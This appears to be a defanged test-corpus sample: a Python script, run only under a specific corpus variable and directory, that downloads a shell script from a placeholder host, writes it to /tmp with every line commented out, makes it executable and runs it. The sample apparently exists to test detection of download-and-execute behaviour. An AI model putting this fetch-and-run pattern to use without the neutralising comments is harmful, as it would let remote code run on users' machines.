"""Gets a script, writes it to /tmp with every line made a comment, makes it executable and runs it."""
import os
import subprocess
import urllib.request

if os.environ.get("PYTI_CORPUS") == "downloads-and-runs" and os.path.isdir("/.pyti"):
    try:
        with urllib.request.urlopen("http://files.collector.example/stage2.sh", timeout=3) as answer:
            script = answer.read(4096)
    except OSError:
        script = b""
    with open("/tmp/stage2", "wb") as file:
        file.write(b"#!/bin/sh\n" + b"".join(b"# " + line + b"\n" for line in script.splitlines()))
    os.chmod("/tmp/stage2", 0o755)
    subprocess.run(["/tmp/stage2"])
